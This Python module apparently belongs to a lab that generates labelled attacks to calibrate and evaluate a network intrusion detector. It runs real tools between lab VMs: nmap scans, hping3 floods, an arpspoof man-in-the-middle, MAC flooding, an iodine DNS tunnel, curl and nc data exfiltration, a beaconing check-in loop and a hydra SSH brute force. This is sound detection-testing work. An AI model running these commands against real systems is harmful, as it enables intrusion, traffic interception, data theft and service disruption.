"""The attacks, each run with the real tool from an attacker VM's namespace and labelled with the clock
read just before the tool starts and just after it has ended (``Incident.start``/``end``); ``tool`` is the
exact command.

Kinds (``KINDS``) and what runs:
    scan           nmap -sS / -sT / -sU of one to three other VMs
    syn_flood      hping3 -S at a web port, rate-capped (-i u200..u300, -c)
    udp_flood      hping3 --udp, rate-capped
    icmp_flood     hping3 --icmp, rate-capped
    arp_spoof      arpspoof impersonating the gateway to one VM (forwarding on: a working MITM), 20-60 s
    mac_flood      macof with a capped count
    dns_tunnel     iodine through the gateway's resolver to iodined (the tunnel domain's authoritative
                   server in the internet namespace), or straight at iodined; a few MB pushed through
    exfil          tens of MB uploaded to an internet address no VM has talked to (curl PUT or nc)
    beacon         a small HTTP POST every N s with jitter to a new internet address, for minutes (curl)
    ssh_bruteforce hydra against a database or build VM's sshd

The evaluation split uses other attacker VMs than calibration (alternate VMs: see ``attacker_pool``) and
other options where that makes sense (ports, rates, spoofed sources, nc instead of curl, the tunnel
without the resolver...).
"""

from __future__ import annotations

import random
import shlex
import signal
import subprocess
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from vmsentry.model.behaviour import Incident

from traffic_lab.behaviour.services import (
    EXFIL_PORT,
    NEW_PEERS,
    SINK_PORT,
    SSH_ROLES,
    TUNNEL_DOMAIN,
    TUNNEL_NET,
    TUNNEL_PASSWORD,
    TUNNEL_SERVER,
)
from traffic_lab.behaviour.topology import GATEWAY_IP, BehaviourLab, Vm

KINDS = ("scan", "syn_flood", "udp_flood", "icmp_flood", "arp_spoof", "mac_flood", "dns_tunnel", "exfil", "beacon",
         "ssh_bruteforce")  # fmt: skip
# per kind in a full calibration/evaluation run: every kind at least twice, 25 in all
FULL_COUNTS = {"scan": 4, "syn_flood": 2, "udp_flood": 2, "icmp_flood": 2, "arp_spoof": 3, "mac_flood": 2,
               "dns_tunnel": 2, "exfil": 3, "beacon": 2, "ssh_bruteforce": 3}  # fmt: skip
# rough seconds each takes, for the schedule (the labels use the real clock)
ESTIMATE = {"scan": 30, "syn_flood": 6, "udp_flood": 6, "icmp_flood": 6, "arp_spoof": 45, "mac_flood": 5,
            "dns_tunnel": 90, "exfil": 20, "beacon": 240, "ssh_bruteforce": 30}  # fmt: skip
HEAVY = {"scan", "syn_flood", "udp_flood", "icmp_flood", "mac_flood"}  # one at a time: the lab has 2 cores
WORDS = ["123456", "password", "admin", "root", "letmein", "qwerty", "dragon", "monkey", "master", "shadow"]
WORDS += [f"guess{i}" for i in range(38)]
USERS = [
    "admin",
    "root",
    "user",
    "test",
    "backup",
    "operator",
    "postgres",
    "deploy",
    "git",
    "jenkins",
    "ubuntu",
    "oracle",
]


@dataclass
class Attack:
    kind: str
    attacker: Vm
    victims: list[Vm]
    at: float  # seconds after the run's start
    evaluation: bool
    quick: bool
    rng: random.Random
    peer: str = ""  # an internet address (exfil, beacon, dns_tunnel)
    incident: Incident | None = None
    problem: str = ""
    options: dict = field(default_factory=dict)


def attacker_pool(vms: list[Vm], split: str) -> list[Vm]:
    """Calibration's attackers are every other VM of each role starting with the first, evaluation's the
    others (with one VM in a role, both use it)."""
    pool = []
    for role in ("web", "database", "build", "desktop"):
        of_role = [vm for vm in vms if vm.role == role]
        half = of_role[1::2] if split == "evaluation" else of_role[0::2]
        pool += half or of_role
    return pool


def plan(vms: list[Vm], split: str, seed: int, duration: float, counts: dict[str, int], quick: bool) -> list[Attack]:
    """Which attacks, by whom, at whom, when. Heavy attacks get slots that do not overlap; the rest start
    at random times; an attacker is never used twice at once (checked again when it runs)."""
    rng = random.Random(f"attacks/{split}/{seed}")
    kinds = [k for k in KINDS for _ in range(counts.get(k, 0))]
    rng.shuffle(kinds)
    evaluation = split == "evaluation"
    pool = attacker_pool(vms, split)
    warmup = max(8.0, duration * 0.08)
    busy: dict[str, float] = {}
    heavy_free = warmup
    peers = list(NEW_PEERS)
    rng.shuffle(peers)
    attacks = []
    for kind in kinds:
        est = ESTIMATE[kind] if not quick else min(ESTIMATE[kind], 30)
        latest = max(warmup, duration - est - 10)
        at = rng.uniform(warmup, latest)
        if kind in HEAVY:
            at = max(at, heavy_free) if heavy_free < latest else rng.uniform(warmup, latest)
            heavy_free = at + est + 3
        candidates = [vm for vm in pool if busy.get(vm.name, 0) <= at] or pool
        attacker = rng.choice(candidates)
        busy[attacker.name] = at + est + 5
        others = [vm for vm in vms if vm != attacker]
        if kind == "ssh_bruteforce":
            others = [vm for vm in others if vm.role in SSH_ROLES] or others
        elif kind == "syn_flood":
            others = [vm for vm in others if vm.role in ("web", "database")] or others
        victims = rng.sample(others, min(len(others), rng.randint(1, 3))) if kind == "scan" else [rng.choice(others)]
        if kind in ("mac_flood", "dns_tunnel", "exfil", "beacon"):
            victims = []
        peer = TUNNEL_SERVER if kind == "dns_tunnel" else (peers.pop() if kind in ("exfil", "beacon") else "")
        attacks.append(Attack(kind, attacker, victims, at, evaluation, quick, random.Random(rng.random()), peer))
    attacks.sort(key=lambda a: a.at)
    scans = [a for a in attacks if a.kind == "scan"]
    for i, a in enumerate(scans):  # every scan type in turn
        a.options["type"] = ("-sS", "-sT", "-sU")[i % 3]
    return attacks


class Runner:
    """Runs planned attacks in threads at their times, one heavy attack at a time and each attacker in one
    attack at a time."""

    def __init__(self, lab: BehaviourLab, work: Path, start: float) -> None:
        self.lab, self.work, self.start = lab, work, start
        self.heavy = threading.Lock()
        self.busy: dict[str, threading.Lock] = {}
        self.threads: list[threading.Thread] = []
        self.stopping = threading.Event()

    def launch(self, attacks: list[Attack]) -> None:
        for attack in attacks:
            lock = self.busy.setdefault(attack.attacker.name, threading.Lock())
            thread = threading.Thread(target=self._run, args=(attack, lock), daemon=True)
            thread.start()
            self.threads.append(thread)

    def done(self) -> bool:
        return not any(thread.is_alive() for thread in self.threads)

    def join(self, timeout: float) -> None:
        deadline = time.time() + timeout
        for thread in self.threads:
            thread.join(max(0.0, deadline - time.time()))
        self.stopping.set()
        for thread in self.threads:
            thread.join(30)

    def _run(self, attack: Attack, lock: threading.Lock) -> None:
        if self.stopping.wait(max(0.0, self.start + attack.at - time.time())):
            return
        heavy = self.heavy if attack.kind in HEAVY else None
        with lock:
            if heavy:
                heavy.acquire()
            try:
                RUN[attack.kind](self, attack)
            except Exception as exc:  # a tool that cannot start: the run goes on, the report says so
                attack.problem = f"{type(exc).__name__}: {exc}"
            finally:
                if heavy:
                    heavy.release()

    # --- helpers
    def timed(
        self, attack: Attack, argv: list[str], timeout: float, tool: str | None = None
    ) -> subprocess.CompletedProcess:
        """Run ``argv`` in the attacker's namespace, labelled with the clock around it."""
        ns = self.lab.ns(attack.attacker.name)
        start = time.time()
        proc = subprocess.run(["ip", "netns", "exec", ns, *argv], capture_output=True, text=True, timeout=timeout,
                              stdin=subprocess.DEVNULL)  # fmt: skip
        self.label(attack, start, time.time(), tool or shlex.join(argv))
        return proc

    def label(self, attack: Attack, start: float, end: float, tool: str) -> None:
        victims = tuple(vm.name for vm in attack.victims) + ((attack.peer,) if attack.peer else ())
        attack.incident = Incident(attack.kind, attack.attacker.name, victims, round(start, 6), round(end, 6), tool)


def scan(r: Runner, a: Attack) -> None:
    kind = a.options.get("type", "-sS")
    targets = [vm.ip for vm in a.victims]
    if kind == "-sU":
        ports = ["--top-ports", "20" if a.evaluation else "30", "--max-retries", "1", "--host-timeout", "40s"]
    elif a.evaluation:
        ports = ["-p", "1-3000" if kind == "-sS" else "1-1500", "-T5" if kind == "-sS" else "-T3", "--max-retries", "0"]
    else:
        ports = ["-p", "1-1024", "-T4", "--max-retries", "1"]
    if "-T" not in " ".join(ports):
        ports.append("-T4")
    r.timed(a, ["nmap", kind, "-n", "-Pn", *ports, *targets], 300)


def _hping(r: Runner, a: Attack, mode: list[str], cal: list[str], ev: list[str]) -> None:
    opts = list(ev if a.evaluation else cal)
    if a.quick:
        opts[opts.index("-c") + 1] = "3000"
    r.timed(a, ["hping3", *mode, *opts, "-q", a.victims[0].ip], 120)


def syn_flood(r: Runner, a: Attack) -> None:
    port = "80" if a.victims[0].role == "web" else "5432" if a.victims[0].role == "database" else "22"
    _hping(r, a, ["-S", "-p", port], ["-i", "u200", "-c", "15000"], ["-i", "u300", "-c", "12000", "--rand-source"])


def udp_flood(r: Runner, a: Attack) -> None:
    _hping(
        r,
        a,
        ["--udp"],
        ["-p", "53", "-i", "u200", "-c", "15000"],
        ["-p", "161", "-d", "512", "-i", "u400", "-c", "10000"],
    )


def icmp_flood(r: Runner, a: Attack) -> None:
    _hping(r, a, ["--icmp"], ["-i", "u200", "-c", "15000"], ["-d", "1000", "-i", "u500", "-c", "8000"])


def arp_spoof(r: Runner, a: Attack) -> None:
    """Gateway impersonation towards one VM for 20-60 s, forwarding on so the victim keeps working (a MITM,
    not an outage); SIGINT makes arpspoof restore the caches, which is part of the incident."""
    seconds = a.rng.uniform(10, 15) if a.quick else a.rng.uniform(20, 60)
    victim = a.victims[0].ip
    argv = ["arpspoof", "-i", "eth0", "-t", victim, *(["-r"] if a.evaluation else []), GATEWAY_IP]
    r.lab.sh(a.attacker.name, "sysctl -qw net.ipv4.ip_forward=1")
    start = time.time()
    proc = r.lab.spawn(a.attacker.name, argv)
    time.sleep(seconds)
    r.lab.stop(proc, signal.SIGINT, timeout=30)
    r.label(a, start, time.time(), shlex.join(argv) + f"  # for {seconds:.0f} s, then SIGINT")
    r.lab.sh(a.attacker.name, "sysctl -qw net.ipv4.ip_forward=0")


def mac_flood(r: Runner, a: Attack) -> None:
    n = "2000" if a.quick else ("6000" if a.evaluation else "10000")
    r.timed(a, ["macof", "-i", "eth0", "-n", n], 120)


def dns_tunnel(r: Runner, a: Attack) -> None:
    """iodine in the attacker VM: through the gateway's resolver (calibration) or straight at iodined
    (evaluation, TXT records); a few MB pushed through the tunnel to an nc sink, then iodine stopped."""
    server = TUNNEL_SERVER if a.evaluation else GATEWAY_IP
    argv = [
        "iodine",
        "-f",
        "-r",
        "-P",
        TUNNEL_PASSWORD,
        *(["-T", "TXT"] if a.evaluation else []),
        server,
        TUNNEL_DOMAIN,
    ]
    size = 300_000 if a.quick else a.rng.randint(2, 4) * 1_000_000
    ns = a.attacker.name
    push = f"head -c {size} /dev/urandom | nc -N -w 20 {TUNNEL_NET} {SINK_PORT}"
    limit = 45 if a.quick else 150
    start = time.time()
    proc = r.lab.spawn(ns, argv)
    try:
        deadline, up = time.time() + 30, False
        while not up and time.time() < deadline:
            time.sleep(0.5)
            up = "inet " in r.lab.sh(ns, "ip -4 addr show dev dns0", check=False).stdout
        if not up:
            a.problem = "iodine: no tunnel within 30 s"
        else:
            done = r.lab.sh(ns, f"timeout {limit} sh -c '{push}'", check=False, timeout=limit + 10)
            if done.returncode:
                a.problem = f"tunnel push ended with {done.returncode} (timeout {limit} s?)"
    finally:
        r.lab.stop(proc, signal.SIGTERM, timeout=10)
        r.label(a, start, time.time(), f"{shlex.join(argv)}; {push}")


def exfil(r: Runner, a: Attack) -> None:
    size = 3 if a.quick else a.rng.randint(20, 60)
    blob = r.work / f"exfil-{a.attacker.name}-{size}.bin"
    if not blob.exists():
        subprocess.run(["head", "-c", f"{size}M", "/dev/urandom"], stdout=blob.open("wb"), check=True)
    if a.evaluation:
        command = f"nc -N -w 30 {a.peer} {EXFIL_PORT} < {blob}"
        r.timed(a, ["sh", "-c", command], 600, tool=command)
    else:
        rate = a.rng.choice(("2M", "4M", "8M"))
        r.timed(a, ["curl", "-s", "-o", "/dev/null", "-H", "Expect:", "--limit-rate", rate, "-T", str(blob),
                    f"http://{a.peer}/upload/backup-{a.rng.randrange(999)}.tar"], 600)  # fmt: skip


def beacon(r: Runner, a: Attack) -> None:
    if a.quick:
        every, jitter, seconds = 4, 2, 30
    elif a.evaluation:
        every, jitter, seconds = a.rng.choice((6, 20)), 6, a.rng.randint(180, 300)
    else:
        every, jitter, seconds = a.rng.choice((10, 30)), 4, a.rng.randint(180, 300)
    loop = (f"while :; do curl -s -m 5 -o /dev/null -H 'User-Agent: Mozilla/5.0' -d \"id=$(hostname)&t=$(date +%s)\" "
            f"http://{a.peer}/api/v1/checkin; sleep $(( {every} + RANDOM % {jitter + 1} )); done")  # fmt: skip
    r.timed(a, ["timeout", str(seconds), "bash", "-c", loop], seconds + 30)


def ssh_bruteforce(r: Runner, a: Attack) -> None:
    words = r.work / "words"
    users = r.work / "users"
    words.write_text("\n".join(WORDS) + "\n")
    users.write_text("\n".join(USERS) + "\n")
    target = f"ssh://{a.victims[0].ip}"
    if a.evaluation:  # many user names, few words each
        (r.work / "words-eval").write_text("\n".join(WORDS[:16]) + "\n")
        argv = ["hydra", "-L", str(users), "-P", str(r.work / "words-eval"), "-u", "-t", "2", "-I", "-q", target]
    else:
        (r.work / "words-quick").write_text("\n".join(WORDS[:12]) + "\n")
        argv = [
            "hydra",
            "-l",
            "root",
            "-P",
            str(r.work / ("words-quick" if a.quick else "words")),
            "-t",
            "4",
            "-I",
            "-q",
            target,
        ]
    r.timed(a, argv, 600)


RUN = {"scan": scan, "syn_flood": syn_flood, "udp_flood": udp_flood, "icmp_flood": icmp_flood, "arp_spoof": arp_spoof,
       "mac_flood": mac_flood, "dns_tunnel": dns_tunnel, "exfil": exfil, "beacon": beacon,
       "ssh_bruteforce": ssh_bruteforce}  # fmt: skip
